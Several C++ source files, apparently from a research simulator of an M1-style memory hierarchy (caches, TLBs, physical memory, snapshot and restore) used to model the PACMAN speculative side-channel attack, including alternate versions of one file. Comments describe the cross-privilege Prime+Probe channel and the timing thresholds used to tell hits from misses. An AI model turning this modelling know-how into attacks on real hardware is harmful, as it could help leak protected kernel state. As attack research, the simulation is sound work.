m1ECoreConfig()
{
    HierarchyConfig cfg;
    cfg.coreType = "e-core";

    // Table 2, e-core caches.
    cfg.l1i = {"L1I", 8, 256, 64};
    cfg.l1d = {"L1D", 4, 256, 64}; // observed-associativity convention
    cfg.l2 = {"L2", 16, 2048, 128, /*hashedIndex=*/true};
    cfg.slc = {"SLC", 16, 8192, 128, /*hashedIndex=*/true};
    cfg.l1dArchWays = 8;
    cfg.l1dArchSets = 128;

    // The paper reverse engineers only the p-core TLBs; these are
    // plausible smaller structures so the e-core model is complete.
    cfg.itlb = {"L1-iTLB", 4, 16, 1};
    cfg.dtlb = {"L1-dTLB", 8, 128, 1};
    cfg.l2tlb = {"L2-TLB", 16, 1024, 1};

    return cfg;
}

LatencyConfig
m1ECoreLatency()
{
    // Roughly 1.5x the p-core load-to-use constants: the e-core's
    // lower clock stretches every fabric round-trip measured in its
    // own cycles. Chosen so a p-core-calibrated threshold of ~30
    // multi-thread counts misclassifies e-core dTLB hits as misses
    // (hit deltas land near 40) — the degradation the self-healing
    // oracle must detect and recalibrate away.
    LatencyConfig lat;
    lat.l1Hit = 6;
    lat.l2Hit = 36;
    lat.slcHit = 68;
    lat.dram = 135;
    lat.l1TlbMissPenalty = 52;
    lat.walkPenalty = 82;
    lat.itlbSpillProbe = 12;
    lat.device = 15;
    return lat;
}

} // namespace pacman::mem
