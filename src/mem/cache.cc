#include "cache.hh"

#include "base/bitfield.hh"
#include "base/logging.hh"

namespace pacman::mem
{

Cache::Cache(const SetAssocConfig &cfg, ReplPolicy policy, Random *rng)
    : cfg_(cfg), policy_(policy), rng_(rng),
      lines_(size_t(cfg.sets) * cfg.ways), setGen_(cfg.sets, 0)
{
    if (!isPowerOf2(cfg.sets))
        fatal("cache %s: set count %u not a power of two",
              cfg.name.c_str(), cfg.sets);
    if (!isPowerOf2(cfg.lineBytes))
        fatal("cache %s: line size %u not a power of two",
              cfg.name.c_str(), cfg.lineBytes);
    if (policy_ == ReplPolicy::Random && rng_ == nullptr)
        fatal("cache %s: random replacement requires an RNG",
              cfg.name.c_str());
    lineShift_ = floorLog2(cfg_.lineBytes);
    setShift_ = floorLog2(cfg_.sets);
    setMask_ = cfg_.sets - 1;
}

uint64_t
Cache::lineNumber(Addr pa) const
{
    return pa >> lineShift_;
}

uint64_t
Cache::setIndex(Addr pa) const
{
    const uint64_t line = lineNumber(pa);
    if (!cfg_.hashedIndex)
        return line & setMask_;
    return (line ^ (line >> setShift_) ^ (line >> (2 * setShift_))) &
           setMask_;
}

uint64_t
Cache::tagOf(uint64_t line_num) const
{
    return line_num >> setShift_;
}

Cache::Line *
Cache::findLine(Addr pa)
{
    const uint64_t set = setIndex(pa);
    const uint64_t tag = tagOf(lineNumber(pa));
    Line *base = &lines_[set * cfg_.ways];
    for (unsigned w = 0; w < cfg_.ways; ++w) {
        if (base[w].valid && base[w].tag == tag)
            return &base[w];
    }
    return nullptr;
}

const Cache::Line *
Cache::findLine(Addr pa) const
{
    return const_cast<Cache *>(this)->findLine(pa);
}

Cache::Line &
Cache::victimIn(uint64_t set)
{
    Line *base = &lines_[set * cfg_.ways];
    // Invalid line first.
    for (unsigned w = 0; w < cfg_.ways; ++w) {
        if (!base[w].valid)
            return base[w];
    }
    if (policy_ == ReplPolicy::Random)
        return base[rng_->next(cfg_.ways)];
    Line *victim = &base[0];
    for (unsigned w = 1; w < cfg_.ways; ++w) {
        if (base[w].lruStamp < victim->lruStamp)
            victim = &base[w];
    }
    return *victim;
}

Cache::Line *
Cache::accessRef(Addr pa, bool *hit)
{
    ++tick_;
    if (Line *line = findLine(pa)) {
        journalTouch(line);
        line->lruStamp = tick_;
        ++hits_;
        *hit = true;
        return line;
    }
    ++misses_;
    const uint64_t set = setIndex(pa);
    Line &victim = victimIn(set);
    journalTouch(&victim);
    bumpSet(set);
    victim.valid = true;
    victim.tag = tagOf(lineNumber(pa));
    victim.lruStamp = tick_;
    *hit = false;
    return &victim;
}

bool
Cache::access(Addr pa)
{
    bool hit;
    accessRef(pa, &hit);
    return hit;
}

bool
Cache::contains(Addr pa) const
{
    return findLine(pa) != nullptr;
}

void
Cache::invalidate(Addr pa)
{
    if (Line *line = findLine(pa)) {
        journalTouch(line);
        bumpSet(setIndex(pa));
        line->valid = false;
    }
}

void
Cache::flushAll()
{
    journalBulk();
    for (Line &line : lines_)
        line.valid = false;
    for (uint64_t set = 0; set < cfg_.sets; ++set)
        bumpSet(set);
}

void
Cache::resetStats()
{
    journalBulk();
    hits_ = misses_ = 0;
    uint64_t min_stamp = tick_;
    for (const Line &line : lines_) {
        if (line.valid && line.lruStamp < min_stamp)
            min_stamp = line.lruStamp;
    }
    tick_ -= min_stamp;
    for (Line &line : lines_) {
        if (line.valid)
            line.lruStamp -= min_stamp;
    }
}

Cache::Snapshot
Cache::takeSnapshot() const
{
    ++journalEpoch_;
    journalOff_ = false;
    journal_.clear();
    journaled_.assign(lines_.size(), 0);
    return {lines_, setGen_, tick_, hits_, misses_, journalEpoch_};
}

void
Cache::restore(const Snapshot &snap)
{
    tick_ = snap.tick;
    hits_ = snap.hits;
    misses_ = snap.misses;
    if (snap.journalEpoch == journalEpoch_ && !journalOff_) {
        // The journal lists exactly the lines dirtied since this
        // snapshot was captured; everything else is already identical.
        // A set's generation label only moves when a line in it is
        // structurally mutated — which always journals that line — so
        // rewinding the journaled lines' sets covers every moved label.
        for (const uint32_t idx : journal_) {
            const uint64_t set = idx / cfg_.ways;
            lines_[idx] = snap.lines[idx];
            setGen_[set] = snap.setGen[set];
            journaled_[idx] = 0;
        }
        journal_.clear();
        return;
    }
    lines_ = snap.lines;
    setGen_ = snap.setGen;
    if (snap.journalEpoch == journalEpoch_) {
        // The journal overflowed, but the full copy just made the
        // live state equal this (still armed) snapshot again: re-arm.
        journal_.clear();
        journaled_.assign(lines_.size(), 0);
        journalOff_ = false;
    } else {
        // Restored a snapshot the journal was not armed against; its
        // contents no longer describe the divergence from anything.
        journalOff_ = true;
    }
}

} // namespace pacman::mem
