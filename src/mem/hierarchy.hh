/**
 * @file
 * The composed M1-style memory hierarchy: L1I/L1D/L2/SLC caches and
 * the reverse-engineered TLB organization of the paper's Figure 6 —
 * per-exception-level L1 iTLBs, a shared L1 dTLB that doubles as the
 * iTLBs' non-inclusive backing store, and a shared L2 TLB.
 *
 * Every timed guest access (demand or speculative) flows through
 * access(), which returns the latency and fault outcome and performs
 * all micro-architectural state modulation. Value movement is done
 * separately through loadValue()/storeValue() so the CPU model can
 * roll architectural effects back on squash while the
 * micro-architectural effects persist — the essence of the channel.
 */

#ifndef PACMAN_MEM_HIERARCHY_HH
#define PACMAN_MEM_HIERARCHY_HH

#include <cstdint>
#include <memory>
#include <vector>

#include "base/random.hh"
#include "mem/cache.hh"
#include "mem/config.hh"
#include "mem/pagetable.hh"
#include "mem/physmem.hh"
#include "mem/tlb.hh"

namespace pacman::mem
{

/** A memory-mapped device (one page). */
class Device
{
  public:
    virtual ~Device() = default;

    /** Read @p size bytes at @p offset within the device page. */
    virtual uint64_t read(uint64_t offset, unsigned size) = 0;

    /** Write @p value at @p offset. */
    virtual void write(uint64_t offset, uint64_t value, unsigned size) = 0;
};

/** Outcome classes for a guest memory access. */
enum class Fault : uint8_t
{
    None,
    Translation, //!< non-canonical pointer or unmapped page
    Permission,  //!< EL / writable / executable violation
};

/** Access kinds. */
enum class AccessKind : uint8_t
{
    Load,
    Store,
    Fetch,
};

/** Result of one timed access. */
struct AccessResult
{
    Fault fault = Fault::None;
    uint64_t latency = 0; //!< cycles, excluding pipeline overheads
    Addr pa = 0;          //!< valid when fault == None
    bool isDevice = false;
};

/** Latency breakdown classes, exposed for the Figure 7 experiment. */
struct AccessTrace
{
    bool l1TlbHit = false;
    bool l2TlbHit = false;
    bool walked = false;
    bool l1CacheHit = false;
    bool l2CacheHit = false;
    bool slcHit = false;
    bool spillServed = false; //!< iTLB miss served by the dTLB
};

/** The full hierarchy for one core. */
class MemoryHierarchy
{
  public:
    /**
     * @param cfg Geometry/latency configuration (e.g. m1PCoreConfig()).
     * @param rng Shared RNG (replacement tie-breaks, noise).
     */
    MemoryHierarchy(const HierarchyConfig &cfg, Random *rng);

    // --- Mapping management (used by the kernel model) ---

    /** Map one page (linear ppn = vpn). */
    void mapPage(Addr va, PageFlags flags);

    /** Map @p bytes worth of pages starting at @p va. */
    void mapRange(Addr va, uint64_t bytes, PageFlags flags);

    /**
     * Map a device page at @p va. Device translations are pinned
     * (never occupy TLB state) and accesses bypass the caches, so a
     * timer read does not disturb Prime+Probe state — matching the
     * paper's use of an uncacheable shared-memory counter.
     */
    void mapDevice(Addr va, Device *device);

    /** The page table (for tests and the kernel). */
    PageTable &pageTable() { return pt_; }

    // --- Timed guest accesses ---

    /**
     * Perform one timed access at exception level @p el.
     *
     * @param kind        Load/Store/Fetch.
     * @param va          Full 64-bit pointer (extension bits checked).
     * @param el          0 (user) or 1 (kernel).
     * @param speculative True when issued under unresolved control
     *                    flow; consulted by the delay-on-miss
     *                    mitigation and by fault bookkeeping.
     * @param trace       Optional out-param with the hit/miss path.
     */
    AccessResult access(AccessKind kind, Addr va, unsigned el,
                        bool speculative, AccessTrace *trace = nullptr);

    // --- Value movement (after a successful access) ---

    /**
     * Fetch-path cache access by physical address, returning the L1I
     * line touched (the hit line, or the freshly allocated one on a
     * miss) so the superblock executor can replay later same-line
     * fetches via Cache::rehit(). State effects and the returned
     * latency are identical to the cache-lookup step of a committed
     * instruction fetch through access().
     */
    uint64_t fetchLineAccess(Addr pa, Cache::Line **line);

    /** Read @p size bytes at the physical address @p res resolved to. */
    uint64_t loadValue(const AccessResult &res, Addr va, unsigned size);

    /** Write through to memory or a device. */
    void storeValue(const AccessResult &res, Addr va, uint64_t value,
                    unsigned size);

    // --- Functional (untimed, state-invisible) access helpers ---

    /** Translate without touching TLB/cache state. */
    std::optional<Addr> translateFunctional(Addr va) const;

    /** Functional virtual read/write (setup and checking only). */
    uint64_t readVirt(Addr va, unsigned size) const;
    void writeVirt(Addr va, uint64_t value, unsigned size);
    uint64_t readVirt64(Addr va) const { return readVirt(va, 8); }
    void writeVirt64(Addr va, uint64_t v) { writeVirt(va, v, 8); }

    /** Backing physical memory. */
    PhysMem &phys() { return phys_; }
    const PhysMem &phys() const { return phys_; }

    // --- Structures (exposed for tests, stats, and experiments) ---

    Cache &l1i() { return l1i_; }
    Cache &l1d() { return l1d_; }
    Cache &l2() { return l2_; }
    Cache &slc() { return slc_; }
    Tlb &itlb(unsigned el) { return el == 0 ? itlbEl0_ : itlbEl1_; }
    Tlb &dtlb() { return dtlb_; }
    Tlb &l2tlb() { return l2tlb_; }

    const HierarchyConfig &config() const { return cfg_; }

    /**
     * Swap the latency constants mid-run (core migration: the thread
     * now runs on a core with different load-to-use timings). The
     * geometry — and therefore every outstanding eviction set — is
     * deliberately left untouched; see DESIGN.md §4d for why the
     * migration model stops at latencies.
     */
    void setLatencyConfig(const LatencyConfig &lat) { cfg_.lat = lat; }

    /** Invalidate all cache and TLB state (boot / reset). */
    void flushAll();

    /**
     * Front-end invalidation epoch: changes when the hierarchy is
     * flushed wholesale (boot / reset / key rotation). The decode and
     * superblock caches compare this once per fetch and drop all
     * entries on a change.
     *
     * Mapping changes (remap/unmap, pt_.epoch()) deliberately do NOT
     * move this epoch: both caches key entries by PHYSICAL address
     * and validate content against page write generations, and every
     * dispatch translates the fetch VA afresh — so a remapped VA
     * simply resolves to a different PA and finds (or builds) the
     * right entry, and an unmapped VA faults before any lookup.
     * Flushing on pt mutations was not needed for correctness and
     * made restore-per-item campaigns (which rewind lazily-created
     * mappings, then redo them every item) rebuild every cached
     * block per work item.
     */
    uint64_t fetchEpoch() const { return flushEpoch_; }

    // --- Disturbance attribution (timing-trace telemetry only) ---
    //
    // Monotonic counters bumped when a known disturbance source runs:
    // the ambient-noise model (Machine::injectNoise) and the fault
    // injector's context-switch flush/pollute paths. They are NOT
    // validity guards — the per-set generation labels on Cache/Tlb
    // are the precise ground truth — and are never captured by
    // snapshots (monotonicity keeps "moved since record" meaningful
    // across restores). A timing trace records both at capture; when
    // a set label later breaks, the core compares them to attribute
    // the break to noise, a flush, or plain cross-access eviction in
    // the guard-break telemetry.

    void noteNoiseDisturbance() { ++disturbNoise_; }
    void noteFlushDisturbance() { ++disturbFlush_; }
    uint64_t noiseDisturbances() const { return disturbNoise_; }
    uint64_t flushDisturbances() const { return disturbFlush_; }

    /**
     * Complete simulated-memory state: physical pages (COW against
     * write generations), page table, all cache tag arrays and all TLB
     * way arrays including LRU stamps, and the flush epoch. Device
     * registrations are host wiring established at boot and are not
     * captured; snapshots must be restored into the same machine they
     * were taken from. The latency configuration is owned by the
     * Machine-level snapshot (it tracks the e-core migration flag).
     */
    struct Snapshot
    {
        PhysMem::Snapshot phys;
        PageTable::Snapshot pt;
        Cache::Snapshot l1i, l1d, l2, slc;
        Tlb::Snapshot itlbEl0, itlbEl1, dtlb, l2tlb;
        uint64_t flushEpoch = 0;
    };

    Snapshot takeSnapshot() const;

    /** @return the physical-page copy/free work actually performed. */
    PhysMem::RestoreStats restore(const Snapshot &snap);

  private:
    /** Translation step shared by data and fetch paths. */
    AccessResult translateTimed(AccessKind kind, Addr va, unsigned el,
                                bool speculative, AccessTrace *trace);

    /** Cache-lookup step; returns added latency. */
    uint64_t cacheAccess(AccessKind kind, Addr pa, bool speculative,
                         AccessTrace *trace);

    /** Permission check against a mapping. */
    Fault checkPerms(AccessKind kind, const PageFlags &flags,
                     unsigned el) const;

    HierarchyConfig cfg_;
    Random *rng_;
    PhysMem phys_;
    PageTable pt_;

    Cache l1i_;
    Cache l1d_;
    Cache l2_;
    Cache slc_;

    Tlb itlbEl0_;
    Tlb itlbEl1_;
    Tlb dtlb_;
    Tlb l2tlb_;

    std::vector<Device *> devices_;          //!< index = ppn - DevicePhysBase/PageSize
    uint64_t flushEpoch_ = 0;                //!< bumped by flushAll()
    uint64_t disturbNoise_ = 0;              //!< injectNoise firings
    uint64_t disturbFlush_ = 0;              //!< fault-injector flushes
};

} // namespace pacman::mem

#endif // PACMAN_MEM_HIERARCHY_HH
