#include "physmem.hh"

#include <cstring>

#include "base/logging.hh"

namespace pacman::mem
{

PhysMem::PhysMem(bool fastFrames) : fast_(fastFrames)
{
    if (fast_) {
        user_.base = UserWindowBase;
        user_.frames = UserWindowFrames;
        user_.chunks.resize(UserWindowFrames / FramesPerChunk);
        kernel_.base = KernelWindowBase;
        kernel_.frames = KernelWindowFrames;
        kernel_.chunks.resize(KernelWindowFrames / FramesPerChunk);
    }
}

PhysMem::Window *
PhysMem::windowFor(uint64_t ppn)
{
    return const_cast<Window *>(
        const_cast<const PhysMem *>(this)->windowFor(ppn));
}

const PhysMem::Window *
PhysMem::windowFor(uint64_t ppn) const
{
    if (!fast_)
        return nullptr;
    if (ppn - user_.base < user_.frames)
        return &user_;
    if (ppn - kernel_.base < kernel_.frames)
        return &kernel_;
    return nullptr;
}

const PhysMem::Frame *
PhysMem::frameIfPresent(uint64_t ppn) const
{
    if (const Window *w = windowFor(ppn)) {
        const auto &chunk = w->chunks[(ppn - w->base) / FramesPerChunk];
        if (!chunk)
            return nullptr;
        const Frame &f = chunk->frames[(ppn - w->base) % FramesPerChunk];
        return f.data ? &f : nullptr;
    }
    auto it = sparse_.find(ppn);
    return it == sparse_.end() || !it->second.data ? nullptr : &it->second;
}

PhysMem::Frame &
PhysMem::frameFor(uint64_t ppn)
{
    Frame *f;
    if (Window *w = windowFor(ppn)) {
        auto &chunk = w->chunks[(ppn - w->base) / FramesPerChunk];
        if (!chunk)
            chunk = std::make_unique<Chunk>();
        f = &chunk->frames[(ppn - w->base) % FramesPerChunk];
    } else {
        f = &sparse_[ppn];
    }
    if (!f->data) {
        f->data = std::make_unique<uint8_t[]>(isa::PageSize);
        std::memset(f->data.get(), 0, isa::PageSize);
        ++backedPages_;
    }
    return *f;
}

uint64_t
PhysMem::readWithin(Addr pa, unsigned size) const
{
    const Frame *f = frameIfPresent(isa::pageNumber(pa));
    if (!f)
        return 0;
    const uint8_t *src = f->data.get() + isa::pageOffset(pa);
    uint64_t value = 0;
    for (unsigned i = 0; i < size; ++i)
        value |= uint64_t(src[i]) << (8 * i);
    return value;
}

void
PhysMem::writeWithin(Addr pa, uint64_t value, unsigned size)
{
    Frame &f = frameFor(isa::pageNumber(pa));
    f.gen = ++genCounter_;
    uint8_t *dst = f.data.get() + isa::pageOffset(pa);
    for (unsigned i = 0; i < size; ++i)
        dst[i] = uint8_t(value >> (8 * i));
}

uint64_t
PhysMem::read(Addr pa, unsigned size) const
{
    PACMAN_ASSERT(size >= 1 && size <= 8, "bad access size %u", size);
    const unsigned room = unsigned(isa::PageSize - isa::pageOffset(pa));
    if (size <= room)
        return readWithin(pa, size);
    // Page-straddling access: split at the boundary (at most once,
    // since size <= 8 << PageSize).
    const uint64_t lo = readWithin(pa, room);
    const uint64_t hi = readWithin(pa + room, size - room);
    return lo | (hi << (8 * room));
}

void
PhysMem::write(Addr pa, uint64_t value, unsigned size)
{
    PACMAN_ASSERT(size >= 1 && size <= 8, "bad access size %u", size);
    const unsigned room = unsigned(isa::PageSize - isa::pageOffset(pa));
    if (size <= room) {
        writeWithin(pa, value, size);
        return;
    }
    writeWithin(pa, value, room);
    writeWithin(pa + room, value >> (8 * room), size - room);
}

PhysMem::Snapshot
PhysMem::takeSnapshot() const
{
    Snapshot snap;
    snap.pages.reserve(backedPages_);
    auto capture = [&](uint64_t ppn, const Frame &f) {
        Snapshot::Page page;
        page.gen = f.gen;
        page.data = std::make_unique<uint8_t[]>(isa::PageSize);
        std::memcpy(page.data.get(), f.data.get(), isa::PageSize);
        snap.pages.emplace(ppn, std::move(page));
    };
    for (const Window *w : {&user_, &kernel_}) {
        for (size_t c = 0; c < w->chunks.size(); ++c) {
            const auto &chunk = w->chunks[c];
            if (!chunk)
                continue;
            for (uint64_t i = 0; i < FramesPerChunk; ++i) {
                const Frame &f = chunk->frames[i];
                if (f.data)
                    capture(w->base + c * FramesPerChunk + i, f);
            }
        }
    }
    for (const auto &[ppn, f] : sparse_)
        if (f.data)
            capture(ppn, f);
    return snap;
}

PhysMem::RestoreStats
PhysMem::restore(const Snapshot &snap)
{
    RestoreStats stats;
    // Rewind one live frame against the snapshot. Returns false when
    // the page was not backed at capture time (caller frees it). The
    // generation compare is the COW check: equal generations mean no
    // write has touched the page since the capture, so the bytes are
    // already identical and no copy is needed.
    auto rewind = [&](uint64_t ppn, Frame &f) {
        auto it = snap.pages.find(ppn);
        if (it == snap.pages.end())
            return false;
        const Snapshot::Page &page = it->second;
        if (f.gen != page.gen) {
            std::memcpy(f.data.get(), page.data.get(), isa::PageSize);
            // Relabel with a FRESH generation (mirrored into the
            // snapshot's mutable label, so the page reads as clean on
            // the next restore) instead of rewinding to the captured
            // one: generation values are never reused, which is what
            // lets stale decoded-instruction entries be detected by
            // generation mismatch alone — and the decode cache
            // therefore survive Machine::restore() without a flush.
            f.gen = page.gen = ++genCounter_;
            ++stats.pagesCopied;
        }
        return true;
    };
    for (Window *w : {&user_, &kernel_}) {
        for (size_t c = 0; c < w->chunks.size(); ++c) {
            auto &chunk = w->chunks[c];
            if (!chunk)
                continue;
            for (uint64_t i = 0; i < FramesPerChunk; ++i) {
                Frame &f = chunk->frames[i];
                if (!f.data)
                    continue;
                if (!rewind(w->base + c * FramesPerChunk + i, f)) {
                    f.data.reset();
                    f.gen = 0;
                    --backedPages_;
                    ++stats.pagesFreed;
                }
            }
        }
    }
    for (auto it = sparse_.begin(); it != sparse_.end();) {
        Frame &f = it->second;
        if (f.data && !rewind(it->first, f)) {
            --backedPages_;
            ++stats.pagesFreed;
            it = sparse_.erase(it);
        } else {
            ++it;
        }
    }
    // Re-back captured pages that have been freed since the capture
    // (possible only if a restore to an older snapshot dropped them).
    for (const auto &[ppn, page] : snap.pages) {
        if (frameIfPresent(ppn))
            continue;
        Frame &f = frameFor(ppn);
        std::memcpy(f.data.get(), page.data.get(), isa::PageSize);
        f.gen = page.gen = ++genCounter_;
        ++stats.pagesCopied;
    }
    return stats;
}

uint64_t
PhysMem::pageGen(Addr pa) const
{
    const Frame *f = frameIfPresent(isa::pageNumber(pa));
    return f ? f->gen : 0;
}

} // namespace pacman::mem
