#include "physmem.hh"

#include <cstring>

#include "base/logging.hh"

namespace pacman::mem
{

PhysMem::PhysMem(bool fastFrames) : fast_(fastFrames)
{
    if (fast_) {
        user_.base = UserWindowBase;
        user_.frames = UserWindowFrames;
        user_.chunks.resize(UserWindowFrames / FramesPerChunk);
        kernel_.base = KernelWindowBase;
        kernel_.frames = KernelWindowFrames;
        kernel_.chunks.resize(KernelWindowFrames / FramesPerChunk);
    }
}

PhysMem::Frame &
PhysMem::frameFor(uint64_t ppn)
{
    Frame *f;
    if (Window *w = windowFor(ppn)) {
        auto &chunk = w->chunks[(ppn - w->base) / FramesPerChunk];
        if (!chunk)
            chunk = std::make_unique<Chunk>();
        f = &chunk->frames[(ppn - w->base) % FramesPerChunk];
    } else {
        f = &sparse_[ppn];
    }
    if (!f->data) {
        f->data = std::make_unique<uint8_t[]>(isa::PageSize);
        std::memset(f->data.get(), 0, isa::PageSize);
        ++backedPages_;
    }
    return *f;
}

PhysMem::Snapshot
PhysMem::takeSnapshot() const
{
    Snapshot snap;
    snap.pages.reserve(backedPages_);
    forEachPage([&](uint64_t ppn, const uint8_t *data, uint64_t gen) {
        Snapshot::Page page;
        page.gen = gen;
        page.data = std::make_unique<uint8_t[]>(isa::PageSize);
        std::memcpy(page.data.get(), data, isa::PageSize);
        snap.pages.emplace(ppn, std::move(page));
    });
    return snap;
}

PhysMem::RestoreStats
PhysMem::restore(const Snapshot &snap)
{
    RestoreStats stats;
    // Rewind one live frame against the snapshot. Returns false when
    // the page was not backed at capture time (caller frees it). The
    // generation compare is the COW check: equal generations mean no
    // write has touched the page since the capture, so the bytes are
    // already identical and no copy is needed.
    auto rewind = [&](uint64_t ppn, Frame &f) {
        auto it = snap.pages.find(ppn);
        if (it == snap.pages.end())
            return false;
        const Snapshot::Page &page = it->second;
        if (f.gen != page.gen) {
            std::memcpy(f.data.get(), page.data.get(), isa::PageSize);
            // Rewind the label to the captured one: the copy just made
            // the bytes exactly what that label always described, so
            // reapplying it keeps the label<->bytes binding intact —
            // and decoded-instruction/superblock entries built under
            // it before the capture validate again instead of being
            // re-translated after every restore (the churn made the
            // snapshot path slower than fresh provisioning).
            f.gen = page.gen;
            ++stats.pagesCopied;
        }
        return true;
    };
    for (Window *w : {&user_, &kernel_}) {
        for (size_t c = 0; c < w->chunks.size(); ++c) {
            auto &chunk = w->chunks[c];
            if (!chunk)
                continue;
            for (uint64_t i = 0; i < FramesPerChunk; ++i) {
                Frame &f = chunk->frames[i];
                if (!f.data)
                    continue;
                if (!rewind(w->base + c * FramesPerChunk + i, f)) {
                    f.data.reset();
                    f.gen = 0;
                    --backedPages_;
                    ++stats.pagesFreed;
                }
            }
        }
    }
    for (auto it = sparse_.begin(); it != sparse_.end();) {
        Frame &f = it->second;
        if (f.data && !rewind(it->first, f)) {
            --backedPages_;
            ++stats.pagesFreed;
            it = sparse_.erase(it);
        } else {
            ++it;
        }
    }
    // Re-back captured pages that have been freed since the capture
    // (possible only if a restore to an older snapshot dropped them).
    for (const auto &[ppn, page] : snap.pages) {
        if (frameIfPresent(ppn))
            continue;
        Frame &f = frameFor(ppn);
        std::memcpy(f.data.get(), page.data.get(), isa::PageSize);
        f.gen = page.gen;
        ++stats.pagesCopied;
    }
    return stats;
}

} // namespace pacman::mem
