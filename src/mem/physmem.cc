#include "physmem.hh"

#include "base/logging.hh"

namespace pacman::mem
{

PhysMem::Page &
PhysMem::pageFor(Addr pa)
{
    auto [it, inserted] =
        pages_.try_emplace(isa::pageNumber(pa));
    if (inserted)
        it->second.assign(isa::PageSize, 0);
    return it->second;
}

const PhysMem::Page *
PhysMem::pageIfPresent(Addr pa) const
{
    auto it = pages_.find(isa::pageNumber(pa));
    return it == pages_.end() ? nullptr : &it->second;
}

uint64_t
PhysMem::read(Addr pa, unsigned size) const
{
    PACMAN_ASSERT(size >= 1 && size <= 8, "bad access size %u", size);
    uint64_t value = 0;
    for (unsigned i = 0; i < size; ++i) {
        const Addr byte_pa = pa + i;
        const Page *page = pageIfPresent(byte_pa);
        const uint8_t byte =
            page ? (*page)[isa::pageOffset(byte_pa)] : 0;
        value |= uint64_t(byte) << (8 * i);
    }
    return value;
}

void
PhysMem::write(Addr pa, uint64_t value, unsigned size)
{
    PACMAN_ASSERT(size >= 1 && size <= 8, "bad access size %u", size);
    for (unsigned i = 0; i < size; ++i) {
        const Addr byte_pa = pa + i;
        pageFor(byte_pa)[isa::pageOffset(byte_pa)] =
            uint8_t(value >> (8 * i));
    }
}

} // namespace pacman::mem
