/**
 * @file
 * Set-associative TLB model.
 *
 * Entries are tagged with the virtual page number and an address-space
 * id (user vs kernel), so user and kernel translations coexist in the
 * shared structures — exactly the property the cross-privilege-level
 * Prime+Probe channel in the paper relies on.
 */

#ifndef PACMAN_MEM_TLB_HH
#define PACMAN_MEM_TLB_HH

#include <cstdint>
#include <optional>
#include <vector>

#include "base/random.hh"
#include "mem/config.hh"
#include "mem/physmem.hh"

namespace pacman::mem
{

/** Address-space id distinguishing translations in shared TLBs. */
enum class Asid : uint8_t
{
    User = 0,
    Kernel = 1,
};

/** A cached translation. */
struct TlbEntry
{
    uint64_t vpn = 0;    //!< virtual page number
    Asid asid = Asid::User;
    uint64_t ppn = 0;    //!< physical page number
    bool writable = false;
    bool executable = false;
};

/** One TLB structure (an L1 iTLB, the L1 dTLB, or the L2 TLB). */
class Tlb
{
  public:
    Tlb(const SetAssocConfig &cfg, ReplPolicy policy, Random *rng);

    /**
     * Look up a translation; refreshes LRU state on hit.
     * @return the entry, or nullopt on miss.
     */
    std::optional<TlbEntry> lookup(uint64_t vpn, Asid asid);

    /** Probe without touching LRU state (test/verification use). */
    bool contains(uint64_t vpn, Asid asid) const;

    struct Way;

    /**
     * Live way holding (@p vpn, @p asid), or nullptr. No state change
     * (unlike lookup()). The superblock executor resolves the way once
     * per block entry and replays per-instruction hits via rehit().
     */
    Way *wayFor(uint64_t vpn, Asid asid) { return find(vpn, asid); }

    /** Way at raw array index @p idx (timing-trace replay: the trace
     *  recorded the index of the way it hit; the set's generation
     *  label guarantees the index still names the same entry). */
    Way *wayAt(size_t idx) { return &ways_[idx]; }

    /** Raw array index of a live @p way (timing-trace recording). */
    size_t indexOf(const Way *way) const
    {
        return size_t(way - ways_.data());
    }

    /**
     * Generation label of @p set: drawn from a never-rewound
     * per-structure counter on every *structural* mutation of the set
     * — an insert (fill, eviction, or in-place refresh: the mapped
     * frame or permissions may change), a removal, or a flush. Pure
     * LRU refreshes on lookup hits do NOT move it. See
     * Cache::setGen() for the label discipline (never reused;
     * restores rewind labels together with the ways they describe).
     */
    uint64_t setGen(uint64_t set) const { return setGen_[set]; }

    /**
     * Replay a hit on @p way with exactly the bookkeeping sequence of
     * lookup()'s hit path: tick, journal touch, LRU stamp, hit count.
     * @p way must be the live way a fresh find of the same key would
     * return.
     */
    void rehit(Way *way)
    {
        ++tick_;
        journalTouch(way);
        way->lruStamp = tick_;
        ++hits_;
    }

    /**
     * Insert a translation; evicts the set's victim if full.
     * @return the evicted valid entry, if any (used to model the
     *         iTLB -> dTLB non-inclusive spill from Section 7.3).
     */
    std::optional<TlbEntry> insert(const TlbEntry &entry);

    /** Remove a translation if present; @return it. */
    std::optional<TlbEntry> remove(uint64_t vpn, Asid asid);

    /** Invalidate everything (e.g. on key rotation / boot). */
    void flushAll();

    /**
     * Invalidate every translation tagged @p asid (a context switch
     * flushing one address space while the other survives).
     * @return the number of entries invalidated.
     */
    unsigned flushAsid(Asid asid);

    /** Invalidate @p asid's translations in set @p set only (a
     *  partial flush). @return the number invalidated. */
    unsigned flushSetAsid(uint64_t set, Asid asid);

    /** Set index for @p vpn. */
    uint64_t setIndex(uint64_t vpn) const;

    const SetAssocConfig &config() const { return cfg_; }
    uint64_t hits() const { return hits_; }
    uint64_t misses() const { return misses_; }

    /** Hit fraction since construction / the last resetStats(). */
    double hitRate() const
    {
        const uint64_t total = hits_ + misses_;
        return total ? double(hits_) / double(total) : 0.0;
    }

    /**
     * Zero the hit/miss counters and rebase the LRU clock (see
     * Cache::resetStats — replacement behaviour is unchanged).
     */
    void resetStats();

    /** One TLB way (exposed so Snapshot can hold the array). */
    struct Way
    {
        bool valid = false;
        TlbEntry entry;
        uint64_t lruStamp = 0;
    };

    /** Complete mutable state: way array, LRU clock, counters. */
    struct Snapshot
    {
        std::vector<Way> ways;
        std::vector<uint64_t> setGen; //!< per-set generation labels
        uint64_t tick = 0;
        uint64_t hits = 0;
        uint64_t misses = 0;

        /** Which arming of the dirty-way journal this capture
         *  belongs to (restore fast-path validity check). */
        uint64_t journalEpoch = 0;
    };

    /**
     * Capture the complete TLB state. Also (re)arms the dirty-way
     * journal (see Cache::takeSnapshot — same scheme, same
     * const-but-mutable-bookkeeping rationale): restoring this
     * snapshot copies back only the ways touched since the capture;
     * restoring any other snapshot falls back to the full copy.
     */
    Snapshot takeSnapshot() const;

    void restore(const Snapshot &snap);

  private:
    Way *find(uint64_t vpn, Asid asid);
    const Way *find(uint64_t vpn, Asid asid) const;
    Way &victimIn(uint64_t set);

    /** Record @p way as dirtied since the last takeSnapshot(). */
    void journalTouch(const Way *way)
    {
        if (journalOff_)
            return;
        const size_t idx = size_t(way - ways_.data());
        if (journaled_[idx])
            return;
        if (journal_.size() >= ways_.size() / 4) {
            journalOff_ = true; // cheaper to copy the array wholesale
            return;
        }
        journaled_[idx] = 1;
        journal_.push_back(uint32_t(idx));
    }

